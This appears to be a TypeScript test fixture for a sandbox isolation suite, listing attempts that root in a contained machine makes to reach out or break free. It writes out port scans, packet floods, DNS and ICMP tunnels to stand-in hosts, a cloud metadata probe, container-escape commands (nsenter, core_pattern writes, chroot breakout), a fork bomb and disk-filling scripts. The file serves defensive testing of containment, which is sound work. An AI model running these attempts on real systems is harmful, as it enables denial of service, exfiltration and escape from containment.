/**
 * What root in the victim tries against everybody else: one row per attempt, run by the victim's own interpreters. A
 * script prints `WORKED` when it reached what it wanted. `counted` rows send packets that a counter must show.
 */
export interface Attempt {
  readonly name: string;
  readonly run: 'python' | 'perl' | 'shell';
  readonly script: string;
  /** Where its packets must be counted; `nowhere`: the system call fails before there is one. */
  readonly counted?: 'egress' | 'host' | 'either' | 'nowhere';
  /** The attempt's packets reach the watcher of the "internet" when nothing contains the sender: run as a control. */
  readonly control?: boolean;
}

/** Addresses of the watcher that stands for the internet. */
export const INTERNET = ['203.0.113.7', '198.51.100.23'] as const;

const PYTHON = `
import os, socket, struct, sys, time
A, B = ${JSON.stringify(INTERNET[0])}, ${JSON.stringify(INTERNET[1])}
def worked(*words):
    print("WORKED", *words)
    sys.stdout.flush()
def udp(payload, address, options=(), count=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    try:
        for option in options: s.setsockopt(*option)
        for _ in range(count): s.sendto(payload, address)
        worked(s.recvfrom(2048))
    except OSError: pass
def tcp(address, port, limit=0.5):
    s = socket.socket()
    s.settimeout(limit)
    try:
        s.connect((address, port)); worked(address, port)
    except OSError: pass
def start(pairs):
    held = []
    for pair in pairs:
        s = socket.socket(); s.setblocking(False)
        try: s.connect(pair)
        except OSError: pass
        held.append(s)
        if len(held) > 200: held.pop(0).close()
    time.sleep(0.2)
    for s in held:
        try: s.getpeername(); worked("connected")
        except OSError: pass
def flood(send, seconds=1.0):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(100):
            try: send()
            except OSError: pass
`;

const python = (script: string) => `${PYTHON}${script}`;
const network = (name: string, script: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  run: 'python',
  script: python(script),
  counted: 'egress',
  control: true,
  ...more,
});
const shell = (name: string, script: string): Attempt => ({ name, run: 'shell', script });
const refused = (name: string, ...lines: string[]): Attempt =>
  shell(name, lines.map((line) => `(${line}) >/dev/null 2>&1 && echo WORKED`).join('\n'));

/** System-call numbers of the rows below. */
const CALLS: Readonly<Record<string, Readonly<Record<string, number>>>> = {
  x64: {
    ...{ bpf: 321, perf_event_open: 298, userfaultfd: 323, io_uring_setup: 425, add_key: 248, keyctl: 250 },
    ...{ init_module: 175, finit_module: 313, kexec_load: 246, open_by_handle_at: 304, setns: 308, unshare: 272 },
    ...{ pivot_root: 155, swapon: 167, clock_settime: 227, quotactl: 179, fsopen: 430, open_tree: 428, iopl: 172 },
    ...{ clone: 56, syslog: 103, acct: 163, mount: 165, fanotify_init: 300, process_vm_readv: 310, kcmp: 312 },
  },
  arm64: {
    ...{ bpf: 280, perf_event_open: 241, userfaultfd: 282, io_uring_setup: 425, add_key: 217, keyctl: 219 },
    ...{ init_module: 105, finit_module: 273, kexec_load: 104, open_by_handle_at: 265, setns: 268, unshare: 97 },
    ...{ pivot_root: 41, swapon: 224, clock_settime: 112, quotactl: 60, fsopen: 430, open_tree: 428, iopl: -1 },
    ...{ clone: 220, syslog: 116, acct: 89, mount: 40, fanotify_init: 262, process_vm_readv: 270, kcmp: 272 },
  },
};

/** A system call that must be refused before it looks at its arguments. */
const call = (name: string, ...args: (number | string)[]): Attempt => ({
  name: `system call ${name}`,
  run: 'perl',
  script: `my $r = syscall(${[CALLS[process.arch]?.[name] ?? -1, ...args].join(', ')});
print "WORKED $r\\n" if $r >= 0; print "errno " . ($! + 0) . "\\n" if $r < 0;
print "WORKED: not refused but $!\\n" if $r < 0 && !grep { $_ == $! } (1, 38, 97);`,
});

/** Packets to the internet: none may arrive. */
export const networkAttempts: readonly Attempt[] = [
  network('HTTP', 'tcp(A, 80)'),
  network('HTTPS', 'tcp(A, 443)'),
  network('SMTP', 'for port in (25, 465, 587): tcp(A, port, 0.2)'),
  network('scan for SSH over a network', 'start([("198.51.100.%d" % i, 22) for i in range(1, 255)])'),
  network('scan for telnet', 'start([("203.0.113.%d" % i, port) for i in range(5, 60) for port in (23, 2323)])'),
  network('scan of all low ports of one machine', 'start([(B, port) for port in range(1, 1024)])'),
  network('scan for SMB and RDP', 'for port in (139, 445, 3389, 5900, 6379, 9200): tcp(B, port, 0.1)'),
  network(
    'SYN flood at full speed',
    `def send():
    s = socket.socket(); s.setblocking(False)
    try: s.connect((A, 80))
    finally: s.close()
flood(send)`,
  ),
  network(
    'UDP flood at full speed',
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nflood(lambda: s.sendto(b"x" * 1400, (A, 9)))',
  ),
  network(
    'ICMP flood at full speed',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
flood(lambda: s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"x" * 56, (A, 0)))`,
  ),
  network(
    'tunnel over ICMP',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(0.5)
s.sendto(struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"secret" * 200, (B, 0))
try: worked(s.recv(2000))
except OSError: pass`,
  ),
  network(
    'DNS at a resolver of its own choice',
    'udp(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\0\\0\\1\\0\\1", (A, 53))',
  ),
  network(
    'tunnel over DNS',
    'udp(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + (b"\\x3f" + b"d" * 63) * 3 + b"\\6tunnel\\0\\0\\x10\\0\\1", (B, 53), count=20)',
  ),
  network('DNS over TCP and TLS', 'tcp(A, 53); tcp(A, 853)'),
  network('IRC', 'for port in (6660, 6667, 6697, 7000): tcp(A, port, 0.2)'),
  network('mining pool', 'for port in (3333, 4444, 5555, 14444): tcp(B, port, 0.2)'),
  network('TFTP', 'udp(b"\\0\\1bot.sh\\0octet\\0", (A, 69))'),
  network('FTP', 'tcp(A, 21)'),
  network(
    'reflection by NTP, memcached, CLDAP',
    'for p in (123, 11211, 389): udp(b"\\x17\\0\\3\\x2a" + b"\\0" * 4, (A, p))',
  ),
  network('datagrams in fragments', 'udp(b"f" * 20000, (A, 4444), count=5)'),
  network('QUIC', 'udp(b"\\xc0" + b"\\0" * 1199, (A, 443))'),
  network(
    'from the published port, UDP',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("", 22)); s.settimeout(0.3)
s.sendto(b"x", (A, 5000))
try: worked(s.recv(10))
except OSError: pass`,
  ),
  network(
    'from the published port, TCP',
    `s = socket.socket(); s.settimeout(0.5)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try:
    s.bind(("10.66.95.2" if len(sys.argv) < 2 else "", 22 if len(sys.argv) < 2 else 2200))
except OSError: pass
try: s.connect((A, 80)); worked()
except OSError: pass`,
  ),
  network(
    'all UDP ports of one machine',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(1, 65536, 7):
    try: s.sendto(b"x", (B, port))
    except OSError: pass`,
  ),
  network(
    'IP options (source route)',
    'udp(b"x", (A, 9), [(0, 4, b"\\x83\\x07\\x04" + socket.inet_aton(B) + b"\\0")])',
    {
      counted: 'nowhere',
      control: false,
    },
  ),
  network(
    'private networks and the cloud’s metadata',
    `for a in ("10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254"):
    tcp(a, 80, 0.2); udp(b"x", (a, 9))`,
    { control: false },
  ),
  network(
    'multicast and broadcast',
    `udp(b"M-SEARCH * HTTP/1.1\\r\\n\\r\\n", ("239.255.255.250", 1900))
udp(b"x", ("255.255.255.255", 9), [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
udp(b"x", ("224.0.0.251", 5353))`,
    { counted: 'either', control: false },
  ),
  network(
    'spoofed source by IP_FREEBIND',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(0, 15, 1)
try: s.bind(("8.8.8.8", 53)); s.sendto(b"x", (A, 9))
except OSError: pass
s = socket.socket(); s.settimeout(0.3); s.setsockopt(0, 15, 1)
try: s.bind(("8.8.8.8", 53)); s.connect((A, 80)); worked()
except OSError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'spoofed source by IP_TRANSPARENT',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.setsockopt(0, 19, 1); worked()
except PermissionError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'raw IP, raw ICMP, raw TCP',
    `for protocol in (255, 1, 6, 47, 50, 4, 132):
    try: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); worked(protocol)
    except PermissionError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'packet sockets',
    `for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, 10):
    try: socket.socket(17, kind, 0x0300); worked()
    except OSError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'IPv6',
    `for address in ("2001:db8::1", "ff02::1%eth0", "fe80::1%eth0"):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    try: s.sendto(b"x", socket.getaddrinfo(address, 9)[0][4])
    except OSError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'other transports (SCTP, DCCP, MPTCP, UDP-Lite)',
    `for kind, protocol in ((1, 132), (6, 33), (2, 136)):
    try:
        s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(0.3); s.connect((A, 80))
        if kind == 1: worked(protocol)
        s.send(b"x")
    except OSError: pass
try:
    s = socket.socket(socket.AF_INET, 1, 262); s.settimeout(0.3); s.connect((A, 80)); worked("mptcp")
except OSError: pass`,
    { counted: 'nowhere' },
  ),
];

/** Against this machine itself. `HOST`, `PORT` and `CONSOLE` are filled in by the test. */
export const hostAttempts: readonly Attempt[] = [
  network('a port of the host, by the link', 'tcp(HOST[0], PORT)', { counted: 'host', control: false }),
  network('a port of the host, by its outer address', 'tcp(HOST[1], PORT)', { counted: 'host', control: false }),
  network('the published port from inside', 'tcp(HOST[1], SSH); tcp(HOST[0], SSH)', {
    counted: 'host',
    control: false,
  }),
  network('the console', 'for a in HOST: tcp(a, CONSOLE)', { counted: 'host', control: false }),
  network('all low ports of the host', 'start([(HOST[0], p) for p in range(1, 1024)])', {
    counted: 'host',
    control: false,
  }),
  network('UDP to the host', 'udp(b"x", (HOST[0], PORT)); udp(b"x", (HOST[1], PORT))', {
    counted: 'host',
    control: false,
  }),
  network(
    'ping of the host',
    `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(0.5); s.sendto(struct.pack("!BBHHH", 8, 0, 0, 7, 1), (HOST[0], 0))
try: worked(s.recv(2000))
except OSError: pass`,
    { counted: 'host', control: false },
  ),
  network('broadcast on the link', 'udp(b"x", ("10.66.95.3", PORT), [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])', {
    counted: 'host',
    control: false,
  }),
  network(
    'abstract sockets of the host',
    `s = socket.socket(socket.AF_UNIX)
try: s.connect("\\0wgattempt"); worked()
except OSError: pass`,
    { counted: 'nowhere', control: false },
  ),
  network(
    'the hypervisor (vsock)',
    `for family in (40, 38, 16 + 1):
    try: socket.socket(family, 1); worked(family)
    except OSError: pass`,
    { counted: 'nowhere', control: false },
  ),
];

/** Through the walls. */
export const wallAttempts: readonly Attempt[] = [
  refused('mounts', 'mount -t tmpfs none /mnt', 'mount --bind /etc /mnt', 'mount -t proc proc /mnt', 'umount /proc'),
  refused(
    'mount of control groups',
    'mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg',
    'mount -t cgroup2 none /tmp/cg',
  ),
  refused(
    'overlay and remount',
    'mount -o remount,rw /sys',
    'mount -o remount,rw /proc/sys',
    'mount -t overlay o /mnt',
  ),
  refused('nsenter', 'nsenter -t 1 -m -u -i -n -p id', 'nsenter -t 1 -n id', 'nsenter -t 2 -m id'),
  refused('new namespaces', 'unshare -r id', 'unshare -m id', 'unshare -n id', 'unshare -p -f id', 'unshare -U id'),
  refused(
    'device nodes',
    'mknod /tmp/vda b 254 0',
    'mknod /tmp/sda b 8 0',
    'mknod /tmp/mem c 1 1',
    'mknod /dev/kvm c 10 232',
  ),
  shell(
    'devices that are there',
    'find /dev -type b -exec echo WORKED {} ";"; for d in mem kmem port kmsg fuse kvm net/tun loop-control loop0 vda sda mapper/control; do [ ! -e /dev/$d ] || echo WORKED $d; done',
  ),
  refused('the host’s memory', 'head -c1 /dev/mem', 'head -c64 /proc/kcore | grep -q .', 'head -c1 /dev/kmem'),
  refused(
    'core_pattern, modprobe, uevent helper',
    'echo "|/tmp/x" >/proc/sys/kernel/core_pattern',
    'echo /tmp/x >/proc/sys/kernel/modprobe',
    'echo /tmp/x >/sys/kernel/uevent_helper',
    'echo 0 >/proc/sys/kernel/randomize_va_space',
  ),
  refused('sysrq', 'echo b >/proc/sysrq-trigger', 'echo 1 >/proc/sys/kernel/sysrq'),
  refused(
    'network settings',
    'echo 1 >/proc/sys/net/ipv4/ip_forward',
    'ip link set eth0 down',
    'ip addr add 10.66.95.9/24 dev eth0',
    'ip link set eth0 address 02:00:00:00:00:01',
    'ip link set eth0 promisc on',
  ),
  refused(
    'routes and neighbours',
    'ip route add 192.0.2.0/24 via 10.66.95.1',
    'ip route del default',
    'ip neigh replace 10.66.95.1 lladdr 02:00:00:00:00:09 dev eth0',
    'ip rule add from all lookup main',
  ),
  refused(
    'tunnels',
    'ip tunnel add t0 mode ipip remote 203.0.113.7 local 10.66.95.2',
    'ip link add d0 type dummy',
    'ip link add v0 type veth',
    'ip link add w0 type wireguard',
    'ip link add x0 type vxlan id 1 dev eth0 dstport 0',
  ),
  shell(
    'the link layer (traffic control, netfilter)',
    `python3 -c '
import socket, struct
for protocol in (0, 12):
    s = socket.socket(16, 3, protocol)
    s.bind((0, 0))
    for kind in (36, 0x0a00):
        s.send(struct.pack("=IHHII", 36, kind, 0x605, 1, 0) + struct.pack("=BBHiIII", 0, 0, 0, 2, 0, 0xffffffff, 0))
        s.settimeout(1)
        try:
            data = s.recv(4096)
            if struct.unpack_from("=i", data, 16)[0] >= 0: print("WORKED")
        except OSError: pass'`,
  ),
  refused('kernel log', 'dmesg', 'head -c1 /dev/kmsg', 'head -c1 /proc/kmsg'),
  refused('host name and time', 'hostname changed', 'date -s "2001-01-01"', 'echo changed >/proc/sys/kernel/hostname'),
  refused('modules', 'modprobe dummy', 'insmod /tmp/x.ko', 'rmmod overlay'),
  refused(
    'priorities',
    '[ "$(nice -n -20 nice)" -lt 0 ]',
    'chrt -f 99 true',
    'echo -1000 >/proc/self/oom_score_adj',
    'ionice -c1 true',
  ),
  refused(
    'limits',
    'ulimit -Hn 10000000',
    'prlimit --nofile=10000000 true',
    'ulimit -Hc unlimited && ulimit -c unlimited',
  ),
  shell(
    'processes of the host',
    'for p in /proc/[0-9]*; do tr "\\0" " " <$p/cmdline 2>/dev/null; done | grep -E "[r]unc|[w]aspglass|[s]ystemd|[/]work/" && echo WORKED; [ "$(ls -d /proc/[0-9]* | wc -l)" -lt 60 ] || echo WORKED',
  ),
  shell(
    'the host’s file system by /proc',
    'for p in /proc/[0-9]*; do ls "$p/root/work" "$p/cwd/../../../../work" 2>/dev/null && echo WORKED; done; ls -l /proc/[0-9]*/fd 2>/dev/null | grep -E " /(work|var/lib/wasp|tmp/wg)" && echo WORKED',
  ),
  shell(
    'out of the root by chroot',
    'perl -e \'mkdir "/tmp/o"; opendir(D, "/"); chroot("/tmp/o"); chdir(D); for (1..64) { chdir("..") } chroot("."); print "WORKED\\n" if -e "/work" || -e "/sys/fs/cgroup/memory"; \'',
  ),
  shell(
    'control groups',
    'ls /sys/fs/cgroup/* >/dev/null 2>&1 && echo WORKED; find /sys/fs/cgroup -name release_agent 2>/dev/null | grep -q . && echo WORKED',
  ),
  refused('writing to /sys', 'echo 1 >/sys/power/state', 'echo 0 >/sys/devices/system/cpu/cpu1/online', 'touch /sys/x'),
  refused(
    'swap, quota, accounting',
    'swapoff -a && false',
    'dd if=/dev/zero of=/tmp/sw bs=4096 count=20 && mkswap /tmp/sw && swapon /tmp/sw',
  ),
  call('bpf', 0, '"\\0" x 64', 64),
  call('perf_event_open', '"\\0" x 120', 0, -1, -1, 0),
  call('userfaultfd', 1),
  call('io_uring_setup', 8, '"\\0" x 120'),
  call('keyctl', 0, -3, 1),
  call('init_module', '"x"', 1, '""'),
  call('finit_module', 0, '""', 0),
  call('kexec_load', 0, 0, '"x"', 0),
  call('open_by_handle_at', 0, '"\\0" x 32', 0),
  call('setns', 0, 0),
  call('unshare', 0x10000000),
  call('clone', 0x10000000 + 17, 0, 0, 0, 0),
  call('pivot_root', '"/"', '"/"'),
  call('fsopen', '"tmpfs"', 0),
  call('open_tree', -100, '"/"', 1),
  call('clock_settime', 0, '"\\0" x 16'),
  call('syslog', 3, '"\\0" x 64', 64),
  call('fanotify_init', 0, 0),
  ...(process.arch === 'x64' ? [call('iopl', 3)] : []),
];

/** More than its share of the machine; each prints how far it came. The victim must answer afterwards. */
export const greedyAttempts: readonly Attempt[] = [
  {
    name: 'fork bomb',
    run: 'perl',
    script: `my $bomb = fork;
if ($bomb == 0) { $( = 1000; $) = "1000 1000"; $< = $> = 1000; exec "bash", "-c", "b() { b | b & }; b" }
sleep 3;
open my $list, "<", "/proc/loadavg"; print "processes: ", (split m{[/ ]}, <$list>)[4], "\\n";
$< = $> = 1000;
kill(9, -1);
waitpid $bomb, 0;
print "ended\\n";`,
  },
  {
    name: 'memory bomb',
    run: 'python',
    script: `import os
held, pid = [], os.fork()
if pid == 0:
    for i in range(8192): held.append(b"x" * (1 << 20))
    print("WORKED"); os._exit(0)
print("killed by", os.waitpid(pid, 0)[1])`,
  },
  {
    name: 'filling the disk',
    run: 'shell',
    script: `dd if=/dev/zero of=/var/fill bs=1M count=2000 2>&1 | grep -q "No space left" || echo WORKED
rm -f /var/fill; truncate -s 100G /var/sparse && rm /var/sparse; df -BM / | tail -1`,
  },
  {
    name: 'filling the disk with files',
    run: 'python',
    script: `import os
os.mkdir("/var/many")
try:
    for i in range(10_000_000): os.mknod("/var/many/%d" % i)
    print("WORKED")
except OSError as error: print(i, error.strerror)
for name in os.listdir("/var/many"): os.unlink("/var/many/" + name)
os.rmdir("/var/many")`,
  },
  {
    name: 'filling what is in memory',
    run: 'shell',
    script: `for d in /dev/shm /run /dev; do dd if=/dev/zero of=$d/fill bs=1M count=4096 2>&1 | grep -q "No space left" || echo WORKED $d
rm -f $d/fill; done`,
  },
];

/** What only somebody with raw sockets in the victim's network could send. */
export const rawAttempts: readonly Attempt[] = [
  network(
    'packets of its own making',
    `def packet(source, target, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head + payload
def segment(sport, dport, flags): return struct.pack("!HHIIBBHHH", sport, dport, 1, 1, 0x50, flags, 1024, 0, 0) + b"x" * 8
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for target in (A, B, "192.0.2.200"):
    for source in ("10.66.95.2", "8.8.8.8", "203.0.113.9", "10.66.95.1"):
        for flags in (2, 0x10, 0x12, 0x18, 4, 1):
            for sport in (22, 4444): s.sendto(packet(source, target, 6, segment(sport, 80, flags)), (target, 0))
        for protocol in (1, 2, 4, 17, 41, 47, 50, 132): s.sendto(packet(source, target, protocol, b"y" * 32), (target, 0))`,
  ),
];
